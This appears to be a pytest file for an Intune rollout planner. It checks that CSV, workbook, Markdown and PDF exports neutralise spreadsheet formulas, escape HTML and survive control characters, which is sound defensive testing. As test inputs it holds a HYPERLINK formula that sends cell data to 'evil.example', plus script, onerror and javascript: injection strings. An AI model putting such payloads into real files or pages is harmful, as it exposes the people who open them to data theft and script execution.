"""Exports are data, never code: no spreadsheet formulas, no raw HTML, no crash on stored text."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from dataclasses import dataclass
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markupsafe import escape

from advisor.evaluate.engine import Engine
from advisor.model.errors import InputError
from advisor.model.facts import TEXT, Assessment, parse_assessment
from advisor.model.i18n import gettext
from advisor.model.plan import Plan
from advisor.model.vocabulary import Language, origin, term
from advisor.output.export import (
    CALENDAR_COLUMNS,
    GATE_COLUMNS,
    METHOD_COLUMNS,
    PREREQUISITE_COLUMNS,
    RATIONALE_COLUMNS,
    to_html,
    to_xlsx,
)
from advisor.output.formats import FORMATS, ExportFormat, export
from advisor.output.render import CSV_COLUMNS, SUPPORT_LOAD_COLUMNS, to_csv, to_markdown, to_table, word
from advisor.planning.planner import make_plan
from advisor.quality.scenarios import load_scenario
from tests.conftest import RULES

# OWASP's list of characters that make a spreadsheet read a cell as a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Keys of the plan whose text comes from the answers or from the rule files.
FREE_TEXT = ("organisation", "name", "title", "text")


def _rewrite(value: Any, change: Any) -> Any:
    """The plan's JSON with every free-text string passed through `change`."""
    if isinstance(value, dict):
        return {
            k: change(v) if k in FREE_TEXT and isinstance(v, str) else _rewrite(v, change)
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [_rewrite(v, change) for v in value]
    return value


def _plan(contoso: Assessment, engine: Engine, change: Any, language: Language = "en") -> Plan:
    with engine.version() as compiled:
        plan = make_plan(contoso, compiled, language)
    return Plan.model_validate(_rewrite(plan.model_dump(mode="json"), change))


def _xlsx_cells(data: bytes) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@dataclass(frozen=True)
class SheetCell:
    sheet: str
    column: str
    text: str
    live: bool  # a spreadsheet evaluates it, on opening or once a person edits the cell


def _read_csv(data: bytes) -> list[SheetCell]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [
        SheetCell("csv", str(column), text, live=text.startswith(TRIGGERS))
        for row in rows
        for column, text in enumerate(row)
    ]


def _read_xlsx(data: bytes) -> list[SheetCell]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [
        SheetCell(
            sheet.title,
            cell.column_letter,
            str(cell.value),
            # XML reads a CR back as a line feed: a cell written starting with one starts with that
            live=cell.data_type == "f"
            or (str(cell.value).startswith((*TRIGGERS, "\n")) and not cell.quotePrefix),
        )
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


# How each tabular format is read back, as a spreadsheet would open it.
READERS = {"csv": _read_csv, "xlsx": _read_xlsx}
TABULAR = [spec.name for spec in FORMATS.values() if spec.tabular]
# Every text of the plan that comes from the answers or the rule files (group ids changed the same
# way wherever they are used, so that the plan still holds together).
HOSTILE_KEYS = (
    "organisation",
    "name",
    "title",
    "text",
    "rule",
    "source",
    "version",
    "id",
    "group",
    "location",  # an event's site
    "by",  # who took a gate's decision, and why
    "note",
)
MARK = 'HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _hostile(value: Any, trigger: str) -> Any:
    if isinstance(value, dict):
        return {
            k: f"{trigger}{MARK}{v}"
            if k in HOSTILE_KEYS and isinstance(v, str)
            else [f"{trigger}{MARK}{g}" for g in v]
            if k == "groups"
            and isinstance(v, list)
            and all(isinstance(g, str) for g in v)  # a prerequisite's
            else _hostile(v, trigger)
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [_hostile(v, trigger) for v in value]
    return value


def test_every_tabular_format_is_read_back_here() -> None:
    """A new tabular format needs its reader above, so that the next test covers it."""
    assert set(TABULAR) == set(READERS)


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("kind", TABULAR)
def test_no_cell_of_any_tabular_export_is_a_formula(
    contoso: Assessment, engine: Engine, kind: str, trigger: str
) -> None:
    with engine.version() as compiled:
        ordinary = make_plan(contoso, compiled, "en")
    plan = Plan.model_validate(_hostile(ordinary.model_dump(mode="json"), trigger))

    cells = READERS[kind](export(plan, kind))
    assert [f"{c.sheet}!{c.column}: {c.text!r}" for c in cells if c.live] == []
    hostile = [c for c in cells if MARK in c.text]
    assert {c.sheet for c in hostile} == {c.sheet for c in cells}  # every sheet carries it
    starts = (trigger + MARK, trigger.replace("\r", "\n") + MARK)  # XML reads a CR back as a line feed
    assert any(c.text.lstrip("'").startswith(starts) for c in hostile)  # at a cell's start too


def _under_way(engine: Engine) -> Plan:
    """Drivers with a tech fair at each of two sites and a decision recorded at the first gate: a
    plan whose calendar sheets show every kind of text they hold."""
    scenario = load_scenario(RULES / "scenarios" / "drivers-tech-fair-per-site.yaml")
    answers = dict(scenario.assessment)
    with engine.version() as compiled:
        first = make_plan(parse_assessment(answers), compiled, "en")
        after = {"phase": first.gates[0].after.phase, "number": first.gates[0].after.number}
        answers["gate_decisions"] = [
            {"after": after, "outcome": "go", "by": "Anna", "date": first.gates[0].date, "note": "All well"}
        ]
        return make_plan(parse_assessment(answers), compiled, "en")


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("kind", TABULAR)
def test_no_cell_of_the_calendar_the_gates_or_the_load_is_a_formula(
    engine: Engine, kind: str, trigger: str
) -> None:
    """The sites of the tech fairs, who decided at a gate and why: text from the answers, in the
    workbook's Calendar, Gates and Support load sheets (the CSV holds none of them)."""
    ordinary = _under_way(engine)
    assert any(e.location for e in ordinary.calendar)
    assert ordinary.gates[0].decisions
    plan = Plan.model_validate(_hostile(ordinary.model_dump(mode="json"), trigger))

    cells = READERS[kind](export(plan, kind))
    assert [f"{c.sheet}!{c.column}: {c.text!r}" for c in cells if c.live] == []
    if kind != "xlsx":
        return
    from openpyxl.utils import get_column_letter

    starts = (trigger + MARK, trigger.replace("\r", "\n") + MARK)
    hostile = {(c.sheet, c.column) for c in cells if c.text.startswith(starts)}
    assert {
        ("Calendar", get_column_letter(CALENDAR_COLUMNS.index("Site") + 1)),
        ("Gates", get_column_letter(GATE_COLUMNS.index("Decided by") + 1)),
        ("Gates", get_column_letter(GATE_COLUMNS.index("Text") + 1)),  # the decision's note
        ("Support load", get_column_letter(SUPPORT_LOAD_COLUMNS.index("Groups") + 1)),
    } <= hostile


def test_a_neutralised_cell_keeps_its_text_after_the_quote(contoso: Assessment, engine: Engine) -> None:
    plan = _plan(contoso, engine, lambda text: "=1+1")
    cells = _xlsx_cells(export(plan, "xlsx"))
    assert "=1+1" in [c.value for c in cells if c.quotePrefix]  # no apostrophe that is not in the name
    assert "Rollout plan for =1+1" in [c.value for c in cells if not c.quotePrefix]  # only a start matters
    rows = list(csv.reader(io.StringIO(export(plan, "csv").decode("utf-8-sig"))))
    assert "'=1+1" in [cell for row in rows for cell in row]
    ordinary = _plan(contoso, engine, lambda text: text)
    assert "IT" in [c.value for c in _xlsx_cells(export(ordinary, "xlsx"))]


@pytest.mark.parametrize("kind", sorted(FORMATS))
def test_stored_text_with_control_characters_still_exports(
    contoso: Assessment, engine: Engine, kind: str
) -> None:
    """A plan saved before control characters were refused must still export, in every format."""
    plan = _plan(contoso, engine, lambda text: f"A\x00B\x01C\x0bD\x1bE\x7fF {text}")
    data = export(plan, kind)
    assert data
    if kind == "xlsx":
        texts = [c.value for c in _xlsx_cells(data) if isinstance(c.value, str)]
        assert any(t.startswith("A\ufffdB\ufffdC\ufffdD\ufffdE") for t in texts)
        assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t) for t in texts)


@pytest.mark.parametrize("spec", FORMATS.values(), ids=list(FORMATS))
def test_a_format_is_binary_exactly_when_its_writer_writes_bytes(
    contoso: Assessment, engine: Engine, spec: ExportFormat
) -> None:
    """The registry's `binary` is what the command line refuses to print and OpenAPI calls binary."""
    body = spec.write(_plan(contoso, engine, lambda text: text), None)
    assert isinstance(body, bytes) == spec.binary


def test_the_pdf_html_shows_every_text_as_written(contoso: Assessment, engine: Engine) -> None:
    attack = "<script>alert(1)</script> {{ 7 * 7 }} {% raw %}"
    plan = _plan(contoso, engine, lambda text: f"{attack} {text}", language="sv")
    page = to_html(plan)
    assert "<script" not in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt; {{ 7 * 7 }} {% raw %}") > 20
    assert "Distributionsplan för &lt;script&gt;" in page
    assert "content: 'Sida ' counter(page) ' av ' counter(pages)" in page


def _html_of(markdown: str) -> str:
    html: str = MarkdownIt("commonmark").enable("table").render(markdown)
    return html


def test_markdown_escapes_html_from_names_reasons_and_rule_texts(contoso: Assessment, engine: Engine) -> None:
    attack = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    plan = _plan(contoso, engine, lambda text: f"{attack} {text}")
    markdown = export(plan, "markdown").decode()
    html = _html_of(markdown)
    assert "<img" not in html
    assert "<script" not in html
    assert html.count("&lt;script&gt;alert(2)&lt;/script&gt;") > 20  # shown as text, everywhere
    assert "IT executives" in html  # still readable


def test_markdown_escapes_links_emphasis_and_table_cells(contoso: Assessment, engine: Engine) -> None:
    plan = _plan(contoso, engine, lambda text: f"[x](javascript:alert(1)) *a* | b\nc `d` {text}")
    html = _html_of(export(plan, "markdown").decode())
    assert 'href="javascript' not in html
    assert "<em>" not in html
    assert "<code>" not in html
    assert "[x](javascript:alert(1)) *a* | b c `d`" in html
    table = html.split("<table>")[1].split("</table>")[0]
    header = table.split("</thead>")[0]
    rows = table.split("</thead>")[1].split("<tr>")[1:]
    # a | inside a name neither adds a column nor ends the row
    assert len(rows) == 7
    assert all(r.count("<td>") == header.count("<th>") == 5 for r in rows)


CONTROL = ["\x00", "\x01", "\x07", "\x0b", "\x1b", "\x7f", "\x85", "\x9f", "\n", "\r", "\t"]


def _with(contoso: Assessment, path: str, value: Any) -> dict[str, Any]:
    data = contoso.model_dump(mode="json")
    if path == "organisation.name":
        data["organisation"]["name"] = value
    else:
        field = path.split(".")[1]
        data["groups"][1][field] = [value, "Oslo"] if field == "locations" else value
    return data


@pytest.mark.parametrize("char", CONTROL)
@pytest.mark.parametrize(
    ("path", "where"),
    [
        ("organisation.name", "organisation.name"),
        ("groups.name", "groups[1].name"),
        ("groups.department", "groups[1].department"),
        ("groups.locations", "groups[1].locations[0]"),
    ],
)
def test_free_text_refuses_control_characters(contoso: Assessment, char: str, path: str, where: str) -> None:
    with pytest.raises(InputError) as english:
        parse_assessment(_with(contoso, path, f"Sales{char}North"))
    assert [(p.path, p.message) for p in english.value.problems] == [
        (where, f"must not contain control characters (U+{ord(char):04X})")
    ]
    with pytest.raises(InputError) as swedish:
        parse_assessment(_with(contoso, path, f"Sales{char}North"), language="sv")
    assert [(p.path, p.message) for p in swedish.value.problems] == [
        (where, f"får inte innehålla styrtecken (U+{ord(char):04X})")
    ]


@pytest.mark.parametrize("text", ["Åsa's team", "Sales\u2028North", "Ünïcødé ✓", "R&D <West>", "=1+1"])
def test_ordinary_text_is_still_accepted(contoso: Assessment, text: str) -> None:
    for path in ("organisation.name", "groups.name", "groups.department", "groups.locations"):
        parse_assessment(_with(contoso, path, text))


def test_the_schema_states_the_same_rule_as_the_validator(contoso: Assessment) -> None:
    """Every code point up to U+00A0 and the Unicode spaces: schema and validator agree."""
    schema = Assessment.model_json_schema()
    pattern = schema["$defs"]["Group"]["properties"]["name"]["pattern"]
    assert schema["$defs"]["Organisation"]["properties"]["name"]["pattern"] == pattern
    chars = [chr(c) for c in range(0xA1)] + ["\u1680", "\u2000", "\u2028", "\u3000", "\ufeff", "x"]
    for char in chars:
        for value in (char, f"a{char}b", f"{char} ", f"a{char}"):
            by_schema = re.search(pattern, value) is not None  # as JSON Schema reads "pattern"
            try:
                parse_assessment(_with(contoso, "groups.name", value))
                by_model = True
            except InputError:
                by_model = False
            assert by_schema == by_model, (repr(value), by_schema, by_model)


_ECMA = """
const pattern = new RegExp(JSON.parse(process.argv[1]), "u");
const values = JSON.parse(require("fs").readFileSync(0, "utf8"));
console.log(JSON.stringify(values.map((v) => pattern.test(v))));
"""


@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js for ECMA-262 regular expressions")
def test_the_pattern_means_the_same_in_ecma_262() -> None:
    """JSON Schema's patterns are ECMA-262: a JavaScript engine agrees with Python's `re`."""
    chars = [chr(c) for c in range(0xA1)] + ["\u1680", "\u2000", "\u2028", "\u3000", "\ufeff", "x"]
    values = [v for c in chars for v in (c, f"a{c}b", f"{c} ", f"a{c}")]
    result = subprocess.run(
        ["node", "-e", _ECMA, json.dumps(TEXT)],
        input=json.dumps(values),
        capture_output=True,
        text=True,
        check=True,
    )
    by_ecma = json.loads(result.stdout)
    by_python = [re.search(TEXT, v) is not None for v in values]
    assert [v for v, a, b in zip(values, by_ecma, by_python, strict=True) if a != b] == []
    assert sum(by_python) > 300


@pytest.mark.parametrize("language", ["en", "sv"])
def test_every_export_says_where_each_reason_comes_from(
    contoso: Assessment, engine: Engine, language: Language
) -> None:
    from openpyxl import load_workbook

    plan = _plan(contoso, engine, lambda text: text, language=language)
    ours, guide = term("beyond_guide", language), term("guide", language)
    rationale = load_workbook(io.BytesIO(to_xlsx(plan))).worksheets[1]
    header, *rows = [[cell.value for cell in row] for row in rationale.iter_rows()]
    assert header[-1] == ("Provenance" if language == "en" else "Ursprung")
    assert {row[-1] for row in rows} >= {ours, guide}
    rule, text = RATIONALE_COLUMNS.index("Rule"), RATIONALE_COLUMNS.index("Reason")
    by_rule = {row[rule]: row[-1] for row in rows}
    for group in plan.groups:
        for reason in group.reasons:
            assert by_rule[reason.rule] == origin(reason.provenance, language)
    split = plan.split_by.reasons[0]
    assert [split.rule, split.text, origin(split.provenance, language)] == [
        rows[0][rule],
        rows[0][text],
        rows[0][-1],
    ]
    warnings = load_workbook(io.BytesIO(to_xlsx(plan))).worksheets[2]
    _, *noted = [[cell.value for cell in row] for row in warnings.iter_rows()]
    assert [(row[2], row[4]) for row in noted] == [
        (w.text, origin(w.provenance, language)) for w in plan.warnings
    ]
    markdown = to_markdown(plan)
    page = to_html(plan)
    for shown in (markdown, page):
        assert f"; {ours})" in shown  # reasons
        assert f"; {guide})" in shown
    warned = [line for line in markdown.splitlines() if line.startswith("- **")]
    assert [line.rsplit("; ", 1)[-1].rsplit("(", 1)[-1] for line in warned] == [
        f"{origin(w.provenance, language)})" for w in plan.warnings
    ]
    for label in {origin(w.provenance, language) for w in plan.warnings}:  # and each warning in the PDF
        assert len(
            re.findall(
                rf"[(;] {re.escape(str(escape(label)))}\)</i></li>",
                page.split(f"<h2>{word('warnings', language)}</h2>")[1].split("<h2>")[0],
            )
        ) == [origin(w.provenance, language) for w in plan.warnings].count(label)
    assert str(escape(f"{split.rule}; {origin(split.provenance, language)})")) in page  # the split's reason


def test_a_plan_saved_before_reasons_had_provenance_still_loads_and_shows(
    contoso: Assessment, engine: Engine
) -> None:
    def without(node: Any) -> Any:  # such a plan had no methods or prerequisites either
        if isinstance(node, dict):
            return {
                k: without(v) for k, v in node.items() if k not in ("provenance", "methods", "prerequisites")
            }
        return [without(v) for v in node] if isinstance(node, list) else node

    saved = without(_plan(contoso, engine, lambda text: text).model_dump(mode="json"))
    old = Plan.model_validate(saved)  # as stored by the site and the API before this change
    assert all(r.provenance is None for g in old.groups for r in g.reasons)
    for shown in (to_markdown(old), to_table(old), to_html(old)):
        assert "None" not in shown
    assert to_xlsx(old).startswith(b"PK")


# How each group's devices enroll, and what to set up by when, in every export.
RETAIL_IOS = {
    "en": ("Retail", "iOS/iPadOS", "corporate", "Apple automated device enrollment (iOS/iPadOS)"),
    "sv": ("Retail", "iOS/iPadOS", "företagsägd", "Apples automatiserade enhetsregistrering (iOS/iPadOS)"),
}
RESET = {"en": "yes, devices in use are wiped", "sv": "ja, enheter som används rensas"}
PERSONAL_ANDROID = {
    "en": ("Sales and marketing", "Android", "personal", "App protection without enrollment (Android)"),
    "sv": ("Sales and marketing", "Android", "privatägd", "Appskydd utan registrering (Android)"),
}
DUE = {"en": "17 June 2027", "sv": "17 juni 2027"}
NO_RULE = {
    "en": "No rule of the rulebook chooses it for these devices.",
    "sv": "Ingen regel i regelboken väljer den för de här enheterna.",
}


def _contoso(contoso: Assessment, engine: Engine, language: Language = "en") -> Plan:
    return _plan(contoso, engine, lambda text: text, language=language)


def test_contoso_plans_the_methods_the_exports_are_tested_on(contoso: Assessment, engine: Engine) -> None:
    """What the tests below read back: the planner's choices for contoso (rules/methods.yaml)."""
    plan = _contoso(contoso, engine)
    retail = {(m.platform, m.ownership): m for m in plan.group("retail").methods}
    assert (retail[("ios", "corporate")].method, retail[("ios", "corporate")].reset_required) == (
        "ios_ade",
        True,
    )
    sales = {(m.platform, m.ownership): m for m in plan.group("sales-marketing").methods}
    assert sales[("android", "personal")].method == "android_app_protection"
    assert plan.prerequisites[0].due == "2027-06-17"
    assert plan.prerequisites[0].groups == []  # every group's


@pytest.mark.parametrize("language", ["en", "sv"])
def test_the_workbook_has_a_methods_and_a_prerequisites_sheet(
    contoso: Assessment, engine: Engine, language: Language
) -> None:
    from openpyxl import load_workbook

    plan = _contoso(contoso, engine, language)
    book = load_workbook(io.BytesIO(to_xlsx(plan)))
    assert book.sheetnames[3:5] == (
        ["Methods", "Prerequisites"] if language == "en" else ["Metoder", "Förutsättningar"]
    )
    methods: list[list[Any]] = [list(row) for row in book.worksheets[3].iter_rows(values_only=True)]
    header, *rows = methods
    assert header == [gettext(c, language) for c in METHOD_COLUMNS]
    assert len(rows) == sum(len(g.methods) for g in plan.groups)
    by_kind = {tuple(row[:4]): row for row in rows}
    column = {c: i for i, c in enumerate(METHOD_COLUMNS)}
    retail = by_kind[RETAIL_IOS[language]]
    assert retail[column["Reset"]] == RESET[language]
    assert retail[column["Devices"]] == 500
    assert retail[column["Prerequisites"]] == "apns-certificate, apple-business-manager, ade-token"
    assert retail[column["Rule"]] == "ios-automated-device-enrollment"
    assert retail[column["Provenance"]] == term("current_practice", language)
    assert term("ios_shared_ipad", language) + ":" in retail[column["Why not the others"]]
    android = by_kind[PERSONAL_ANDROID[language]]
    assert android[column["Reset"]] == term("no", language)
    assert android[column["What the user experiences"]].startswith(
        ("The phone is not enrolled", "Telefonen registreras inte")
    )

    prerequisites: list[list[Any]] = [list(row) for row in book.worksheets[4].iter_rows(values_only=True)]
    header, *rows = prerequisites
    assert header == [gettext(c, language) for c in PREREQUISITE_COLUMNS]
    assert [row[0] for row in rows] == [p.code for p in plan.prerequisites]
    licences = rows[0]
    assert licences[2:6] == [
        "2027-06-17",
        "every group" if language == "en" else "alla grupper",
        term("current_practice", language),
        "https://learn.microsoft.com/mem/intune/fundamentals/licenses",
    ]
    apple = next(row for row in rows if row[0] == "ade-token")
    assert "Retail" in apple[3].split(", ")


def test_csv_rows_say_what_they_are_and_share_one_header(contoso: Assessment, engine: Engine) -> None:
    plan = _contoso(contoso, engine)
    header, *rows = list(csv.reader(io.StringIO(to_csv(plan))))
    assert header == list(CSV_COLUMNS)
    assert all(len(row) == len(header) for row in rows)
    kinds = [row[0] for row in rows]
    placements = sum(len(ph.entries) for ph in plan.phases)
    methods = sum(len(g.methods) for g in plan.groups)
    assert kinds == ["placement"] * placements + ["method"] * methods + ["prerequisite"] * len(
        plan.prerequisites
    ) + ["warning"] * len(plan.warnings)
    column = {c: i for i, c in enumerate(CSV_COLUMNS)}

    def cells(row: list[str], *names: str) -> list[str]:
        return [row[column[n]] for n in names]

    retail = next(
        r
        for r in rows
        if cells(r, "row", "group", "platforms", "ownership")
        == ["method", "retail", "iOS/iPadOS", "corporate"]
    )
    assert cells(retail, "method", "devices", "reset", "user affinity", "rules", "provenance") == [
        "Apple automated device enrollment (iOS/iPadOS)",
        "500",
        "yes",
        "yes",
        "ios-automated-device-enrollment",
        "Current Microsoft docs",
    ]
    assert cells(retail, "phase", "users", "enrollment", "due") == ["", "", "", ""]
    android = next(
        r
        for r in rows
        if cells(r, "row", "group", "platforms", "ownership")
        == ["method", "sales-marketing", "Android", "personal"]
    )
    assert cells(android, "method", "reset", "prerequisites") == [
        "App protection without enrollment (Android)",
        "no",
        "entra-id-p1 app-protection-policies privacy-statement",
    ]
    prerequisite = next(
        r for r in rows if r[0] == "prerequisite" and r[column["prerequisites"]] == "app-protection-policies"
    )
    assert cells(prerequisite, "group", "name", "due", "source") == [
        "sales-marketing",
        "Sales and marketing",
        "2027-07-18",
        "https://learn.microsoft.com/mem/intune/apps/app-protection-policy",
    ]
    swedish = list(csv.reader(io.StringIO(to_csv(_contoso(contoso, engine, "sv")))))
    assert swedish[0][:2] == ["rad", "fas"]
    assert {row[0] for row in swedish[1:]} == {"placering", "metod", "förutsättning", "varning"}


@pytest.mark.parametrize("language", ["en", "sv"])
def test_markdown_has_each_groups_methods_and_a_checklist(
    contoso: Assessment, engine: Engine, language: Language
) -> None:
    plan = _contoso(contoso, engine, language)
    markdown = to_markdown(plan)
    retail = markdown.split("### Retail")[1].split("### ")[0]
    _, platform, owner, method = RETAIL_IOS[language]
    assert f"- {platform}, {owner}: **{method}**; 500 " in retail
    assert RESET[language] in retail
    sales = markdown.split("### Sales and marketing")[1].split("### ")[0]
    assert f"- Android, {PERSONAL_ANDROID[language][2]}: **{PERSONAL_ANDROID[language][3]}**" in sales
    checklist = [line for line in markdown.splitlines() if line.startswith("- [ ] ")]
    assert len(checklist) == len(plan.prerequisites)
    assert DUE[language] in checklist[0]
    assert "](https://learn.microsoft.com/mem/intune/fundamentals/licenses)" in checklist[0]
    assert "intune-licences" not in checklist[0]  # the prerequisite's code is for the machine exports
    assert markdown.index("- [ ] ") < markdown.index("### IT")  # after the warnings, before the groups
    html = _html_of(markdown)
    assert html.count("<li>[ ] ") == len(plan.prerequisites)


@pytest.mark.parametrize("language", ["en", "sv"])
def test_the_pdf_shows_the_methods_table_and_the_checklist(
    contoso: Assessment, engine: Engine, language: Language
) -> None:
    plan = _contoso(contoso, engine, language)
    page = to_html(plan)
    retail = page.split("<h3>Retail</h3>")[1].split("</section>")[0]
    _, platform, owner, method = RETAIL_IOS[language]
    assert (
        f"<td>{platform}</td>\n<td>{owner}</td>\n<td><b>{method}</b></td>\n<td>500</td>\n"
        f'<td class="reset"><span class="reset-required">{RESET[language]}</span></td>' in retail
    )
    assert page.count('<table class="methods">') == sum(1 for g in plan.groups if g.methods)
    checklist = page.split('<ul class="checklist">')[1].split("</ul>")[0]
    assert checklist.count("<li>") == len(plan.prerequisites)
    assert DUE[language] in checklist


def test_an_alternative_no_rule_chooses_says_so_in_every_format(contoso: Assessment, engine: Engine) -> None:
    from openpyxl import load_workbook

    for language in ("en", "sv"):
        plan = _contoso(contoso, engine, language)
        retail = plan.group("retail")
        first = retail.methods[0]
        unchosen = first.model_copy(
            update={"alternatives": [a.model_copy(update={"why_not": []}) for a in first.alternatives]}
        )
        groups = [
            g.model_copy(update={"methods": [unchosen, *g.methods[1:]]}) if g.id == "retail" else g
            for g in plan.groups
        ]
        plan = plan.model_copy(update={"groups": groups})
        said = NO_RULE[language]
        assert said in to_html(plan)
        assert f"{term(first.alternatives[0].method, language)}: {said}" in to_markdown(plan)
        sheet = load_workbook(io.BytesIO(to_xlsx(plan))).worksheets[3]
        assert any(said in str(cell.value) for row in sheet.iter_rows() for cell in row)


def test_the_text_table_lists_the_methods_and_prerequisites_after_the_warnings(
    contoso: Assessment, engine: Engine
) -> None:
    plan = _contoso(contoso, engine)
    text = to_table(plan)
    _, rest = text.split("\nWarnings:\n")[1].split("\nEnrollment methods:\n")
    methods, prerequisites = rest.split("\nPrerequisites:\n")
    assert (
        "Retail:\n- iOS/iPadOS, corporate: Apple automated device enrollment (iOS/iPadOS); 500 devices; reset: yes, devices in use are wiped; user affinity: yes\n"
        in methods
    )
    assert (
        "- Android, personal: App protection without enrollment (Android); 500 devices; reset: no" in methods
    )
    lines = prerequisites.splitlines()
    assert len(lines) == len(plan.prerequisites)
    assert lines[0] == (
        "- [ ] Assign an Intune licence to every user in the rollout. "
        "(due 17 June 2027; for every group; Current Microsoft docs)"
    )


def test_a_rule_source_stays_one_link_in_markdown(contoso: Assessment, engine: Engine) -> None:
    """Found by review: an admin's source holding `)` or `<` ended the Markdown link early and let
    the rest of the URL read as text (or markup)."""
    plan = _plan(contoso, engine, lambda text: text)
    odd = 'https://learn.microsoft.com/a_(b)?x=<y> "z"'
    groups = [
        g.model_copy(update={"reasons": [r.model_copy(update={"source": odd}) for r in g.reasons]})
        for g in plan.groups
    ]
    html = _html_of(export(plan.model_copy(update={"groups": groups}), "markdown").decode())
    assert html.count('href="https://learn.microsoft.com/a_%28b%29?x=%3Cy%3E%20%22z%22"') >= len(groups)
    assert "<y>" not in html
